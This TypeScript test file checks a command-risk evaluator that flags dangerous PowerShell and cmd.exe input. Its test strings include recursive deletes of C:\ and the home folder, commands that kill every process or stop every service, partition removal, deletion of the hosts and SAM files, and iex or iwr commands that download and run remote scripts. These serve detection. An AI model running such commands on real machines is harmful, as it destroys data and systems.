import { evaluateRiskText } from './risk-text.evaluator';
import type { RiskRule } from './risk.types';

function rulesOf(text: string): RiskRule[] {
  return evaluateRiskText(text, 'shell').rules.map((r) => r.rule);
}

describe('PowerShell pipelines (through evaluateRiskText with the shell hint)', () => {
  it.each([
    'Get-ChildItem -Recurse C:\\data | Remove-Item -Force',
    'gci -r | ri',
    'Get-ChildItem C:\\logs -Filter *.log | Where-Object { $_.Length -gt 1MB } | Remove-Item',
    'dir C:\\build | del',
    'ls *.log | % { Remove-Item $_ }',
    'Get-ChildItem | ForEach-Object { Remove-Item $_.FullName }',
    'gci C:\\data | foreach {ri $_}',
    'Get-ChildItem | ForEach-Object -Process { Remove-Item $_ -Force }',
    'Get-ChildItem | % { Write-Host $_; Remove-Item $_ }',
    'gci | ? { $_.Name -like "*.tmp" } | ri',
    'gci C:\\logs | ? { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | del',
    'gci . -Include *.log -Recurse | rm',
    'Get-ChildItem -Filter *.tmp | rm -Force',
    'gci | ? { $_.LastWriteTime -lt (Get-Date).AddDays(-7) } | rm',
  ])('reads a delete fed by a pipeline as a delete over a generated list: %s', (text) => {
    expect(rulesOf(text)).toContain('recursive-delete');
  });

  it.each([
    'Get-Process | Stop-Process -Force',
    'gps | spps',
    'Get-Process | % { Stop-Process $_ }',
    'Get-Process | ForEach-Object { Stop-Process -Id $_.Id -Force }',
    'gps | foreach -Process { spps -InputObject $PSItem }',
  ])('reads stopping every process a bare Get-Process lists as tearing the machine down: %s', (text) => {
    expect(rulesOf(text)).toContain('infrastructure-destroy');
  });

  it.each([
    'Get-Process | % { $_.Kill() }',
    'Get-Process | ForEach-Object { $_.Kill() }',
    'gps | %{$PSItem.Kill()}',
    'gps | % Kill',
    'Get-Process | ForEach-Object -MemberName Kill',
    '(Get-Process).Kill()',
    '[System.Diagnostics.Process]::GetProcesses() | % { $_.Kill() }',
    'Get-Process | kill',
    'Get-Process | Stop-Process -Force; Write-Host (Get-Date)',
    'Write-Host "bye"; Get-Process | % { $_.Kill() }',
    'Get-Process -ErrorAction SilentlyContinue | Stop-Process -Force',
    'gps -ea 0 | spps -Force',
    'Get-Process -EA SilentlyContinue | % { $_.Kill() }',
  ])('reads killing every process by .NET, member name, alias or in text bash cannot parse as the same: %s', (text) => {
    expect(rulesOf(text)).toContain('infrastructure-destroy');
  });

  it.each([
    'iwr https://x.example/i.ps1 -OutFile i.ps1; .\\i.ps1',
    'Invoke-WebRequest -Uri https://x.example/setup.ps1 -OutFile .\\setup.ps1; powershell -ExecutionPolicy Bypass -File .\\setup.ps1',
    'Invoke-RestMethod https://x.example/i.ps1 -OutFile i.ps1 ; pwsh -File i.ps1',
  ])('reads running a script the same text downloaded as opaque, as curl -o x.sh URL && ./x.sh is: %s', (text) => {
    expect(rulesOf(text)).toContain('opaque');
  });

  it.each([
    'powershell -ExecutionPolicy Bypass -File .\\build.ps1',
    'iwr https://x.example/data.json -OutFile data.json; .\\build.ps1',
  ])('leaves running a script of the project alone: %s', (text) => {
    expect(rulesOf(text)).toEqual([]);
  });

  it.each([
    'Get-Service | Stop-Service -Force',
    'gsv | spsv',
    'Get-Service -ErrorAction SilentlyContinue | Stop-Service',
  ])('reads stopping every service as tearing the machine down, as stopping every process is: %s', (text) => {
    expect(rulesOf(text)).toContain('infrastructure-destroy');
  });

  it.each([
    'Get-Service -Name spooler | Stop-Service',
    'Get-Service MSSQL* | Stop-Service -Force',
    'Get-Service | Where-Object { $_.Name -like "app*" } | Stop-Service',
    'Stop-Service -Name W3SVC',
  ])('leaves stopping named or filtered services alone: %s', (text) => {
    expect(rulesOf(text)).toEqual([]);
  });

  it.each([
    'Get-Process -Name notepad | % { $_.Kill() }',
    'Get-Process -ErrorAction SilentlyContinue -Name node | Stop-Process',
    'Get-Process -ErrorAction SilentlyContinue node | Stop-Process',
    '(Get-Process -Id 42).Kill()',
    '(Get-Process notepad).Kill()',
    'gps notepad | % Kill',
    'Get-Process -Name notepad | kill',
    'Get-Process | Where-Object { $_.CPU -gt 500 } | % { $_.Kill() }',
    'Get-Process | % { $_.Refresh() }',
    '$p = Start-Process notepad -PassThru; $p.Kill()',
  ])('leaves killing one named process, or some picked by a filter, alone: %s', (text) => {
    expect(rulesOf(text)).toEqual([]);
  });

  it.each([
    'Remove-Item .\\build\\ -Recurse -Force',
    'Remove-Item C:\\ -Recurse',
    'Remove-Item -Path C:\\ -Recurse -Force',
    'ri .\\node_modules\\ -r -fo',
    'rmdir .\\dist\\ /s /q',
  ])('reads a path ending in a backslash as PowerShell and cmd.exe do, not as an escaped space: %s', (text) => {
    expect(rulesOf(text)).toContain('recursive-delete');
  });

  it.each(['Remove-Item .\\build\\ -Force', 'Copy-Item .\\src\\ .\\backup\\ -Recurse'])('leaves %s alone', (text) => {
    expect(rulesOf(text)).toEqual([]);
  });

  it.each([
    "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')",
    "iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/install.ps1'))",
    "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object Net.WebClient).DownloadString('https://x.example/i.ps1'))",
    'iex (iwr https://x.example/i.ps1).Content',
    'iex(irm https://x.example/install.ps1)',
  ])('reads iex of an expression (code downloaded or built at run time) as opaque, as irm URL | iex is: %s', (text) => {
    expect(rulesOf(text)).toContain('opaque');
  });

  it.each(['iex "Get-Date"', 'Pipe the script to iex when you trust it.'])('leaves %s alone', (text) => {
    expect(rulesOf(text)).toEqual([]);
  });

  it.each(['Remove-Partition -DriveLetter E -Confirm:$false', 'Get-Partition -DiskNumber 1 | Remove-Partition'])(
    'reads removing a partition as wiping its data, as Clear-Disk is: %s',
    (text) => {
      expect(rulesOf(text)).toContain('disk-wipe');
    },
  );

  it.each([
    'Get-ChildItem | Select-Object Name',
    'gci -r | Measure-Object',
    'Remove-Item C:\\temp\\a.txt',
    'echo C:\\temp\\a.txt | Remove-Item',
    'echo a.txt | rm',
    'Get-ChildItem | rm a.txt',
    'Get-ChildItem | % { Write-Output $_.Name }',
    'Get-Process notepad | Stop-Process',
    'Get-Process -Name chrome | Stop-Process -Force',
    'Get-Process | Where-Object { $_.Name -eq "notepad" } | Stop-Process',
    'Get-Process notepad | % { Stop-Process $_ }',
    'Get-Process | Where-Object { $_.CPU -gt 500 } | % { Stop-Process $_ }',
    'Get-Process | % { Write-Output $_.Name }',
    'gps | ? { $_.CPU -gt 500 } | spps -Force',
    'Stop-Process -Id 4242',
    'Get-Process | Sort-Object CPU -Descending | Select-Object -First 5',
    'gci | ? { $_.Name -like "*.tmp" } | Select-Object Name',
    'gci -r C:\\temp | Remove-Item -WhatIf',
    'Remove-Item -Recurse C:\\data -WhatIf',
    '| tool | language |\n|---|---|\n| black | python |\n| eslint | node |',
    '| key | action |\n|---|---|\n| del | deletes a char |',
  ])('leaves %s alone', (text) => {
    expect(rulesOf(text)).toEqual([]);
  });

  it.each([
    "[IO.Directory]::Delete('C:\\data', $true)",
    '[System.IO.Directory]::Delete("C:\\data", $True)',
    "[system.io.directory]::delete( 'C:\\data' , $true )",
    'Get-ChildItem C:\\data | % { $_.Delete() }',
    'Get-ChildItem C:\\logs -Recurse | ForEach-Object { $_.Delete() }',
    'gci C:\\tmp | foreach { $PSItem.Delete() }',
    'Get-ChildItem C:\\data | % { [System.IO.File]::Delete($_.FullName) }',
    "(Get-Item 'C:\\data').Delete($true)",
    'powershell -Command "[IO.Directory]::Delete(\'C:\\data\', $true)"',
  ])('reads a .NET delete as the cmdlet it amounts to: %s', (text) => {
    expect(rulesOf(text)).toContain('recursive-delete');
  });

  it.each([
    "[System.IO.File]::Delete('C:\\Windows\\System32\\drivers\\etc\\hosts')",
    "[IO.File]::Delete('c:/windows/system32/config/SAM'); Write-Host (Get-Date)",
  ])('reads a .NET delete of a system file as overwriting the system: %s', (text) => {
    expect(rulesOf(text)).toContain('system-file-overwrite');
  });

  it.each([
    "[System.IO.File]::Delete('C:\\temp\\a.txt')",
    "[IO.Directory]::Delete('C:\\temp\\empty')",
    "[IO.Directory]::Delete('C:\\temp\\empty', $false)",
    "[IO.File]::Exists('C:\\Windows\\System32\\drivers\\etc\\hosts')",
    'Get-ChildItem | % { $_.Name.Replace("a", "b") }',
    "Write-Host 'call [IO.File]::Exists() first'",
  ])('leaves %s alone', (text) => {
    expect(rulesOf(text)).toEqual([]);
  });

  it.each([
    'foreach ($f in Get-ChildItem C:\\data) { Remove-Item $f }',
    'foreach ($f in (gci C:\\data -Recurse)) { Remove-Item $f.FullName -Force }',
    'foreach ($f in $files) { Write-Host ($f.Name); Remove-Item $f }',
    'gci C:\\data | % { Remove-Item (Join-Path C:\\data $_.Name) }',
  ])('reads a PowerShell loop over a generated list as deleting each item: %s', (text) => {
    expect(rulesOf(text)).toContain('recursive-delete');
  });

  it.each([
    "foreach ($f in 'a.txt', 'b.txt') { Remove-Item $f }",
    'foreach ($i in 1..3) { Remove-Item "log$i.txt" }',
    'foreach ($f in Get-ChildItem) { Write-Host ($f.Name) }',
    'foreach ($f in Get-ChildItem) { Write-Host ($f.Name) }; Remove-Item (Join-Path C:\\data a.txt)',
  ])('leaves the PowerShell loop %s alone', (text) => {
    expect(rulesOf(text)).toEqual([]);
  });

  it.each(['Remove-Item -Path C:\\data -Recurse:$true -Force', 'ri C:\\data -r:$true'])(
    'reads a switch given its value: %s',
    (text) => {
      expect(rulesOf(text)).toContain('recursive-delete');
    },
  );

  it.each([
    'rm -Force C:\\temp\\a.txt',
    'rm C:\\temp\\a.txt -Force -Confirm:$false',
    'rm -Path a.txt -Recurse -WhatIf',
  ])("reads PowerShell's rm (Remove-Item) by its parameters, -Force being no recursion: %s", (text) => {
    expect(rulesOf(text)).toEqual([]);
  });

  it.each([
    ['rm -Recurse -Force C:\\data', 'recursive-delete'],
    ['rm C:\\data -Recurse', 'recursive-delete'],
    ['rm -Force C:\\Windows\\System32\\x.dll', 'system-file-overwrite'],
  ])("still flags PowerShell's rm that recurses or deletes a system file: %s", (text, rule) => {
    expect(rulesOf(text)).toContain(rule);
  });

  it.each([
    'rm .\\build\\ -r -fo',
    'rm C:\\ -r -fo',
    'rm ..\\ -r -fo',
    'rm ~\\ -r -fo',
    'rm -fo .\\build\\ -r',
    'rm -Force .\\build\\ -Recurse',
    'rm -path C:\\ -r -fo',
    'rm -lit C:\\ -rec -fo',
    'rm -LiteralPath C:\\ -Recurse -Force',
    'ri $HOME\\ -r -fo',
    'rm $env:USERPROFILE\\ -r -fo',
    'ri -LiteralPath $HOME\\ -rec -fo',
  ])(
    "reads PowerShell's rm and ri with a path ending in a backslash and abbreviated parameters as a recursive delete, as rm -rf is: %s",
    (text) => {
      expect(rulesOf(text)).toContain('recursive-delete');
    },
  );

  it.each([
    'rm -for a.txt',
    'rm -ErrorAction SilentlyContinue a.txt',
    'rm -Verbose a.txt',
    'rm -Path a.txt -ErrorAction Ignore',
    'rm -proga SilentlyContinue a.txt',
    'rm .\\build\\ -fo',
  ])(
    "reads PowerShell's rm given any unambiguous prefix of its parameters, -for(ce) or -Verbose being no -r: %s",
    (text) => {
      expect(rulesOf(text)).toEqual([]);
    },
  );

  it.each(['rd/s/q C:\\', 'rmdir/s C:\\Users\\bob', 'del/s/q C:\\*', 'cmd /c rd/s/q C:\\', 'ERASE/S/Q ..'])(
    "reads cmd.exe's switches written against the command name as its switches: %s",
    (text) => {
      expect(rulesOf(text)).toContain('recursive-delete');
    },
  );

  it.each(['del/q a.txt', 'rd/q empty', './rd/s/q'])('leaves %s alone', (text) => {
    expect(rulesOf(text)).toEqual([]);
  });

  it('leaves a switch turned off alone', () => {
    expect(rulesOf('Remove-Item -Path C:\\temp\\a.txt -Recurse:$false')).toEqual([]);
  });

  it.each([
    'Invoke-Command -ComputerName srv -ScriptBlock { Remove-Item -Recurse -Force C:\\data }',
    'icm srv { Remove-Item -Recurse C:\\data }',
    'Start-Job { Remove-Item -Recurse C:\\data }',
    'Measure-Command { ri -r C:\\data }',
    'Start-Process powershell -ArgumentList "-Command Remove-Item -Recurse C:\\data"',
    "saps cmd -ArgumentList '/c rd /s /q C:\\data'",
  ])('reads the command a script block or a started process runs: %s', (text) => {
    expect(rulesOf(text)).toContain('recursive-delete');
  });

  it.each([
    'Invoke-Command -ComputerName srv -ScriptBlock { Get-Service }',
    'Start-Job { Get-ChildItem C:\\data }',
    'Start-Process notepad.exe',
    'Start-Process msiexec -ArgumentList "/i app.msi /qn"',
  ])('leaves %s alone', (text) => {
    expect(rulesOf(text)).toEqual([]);
  });
});
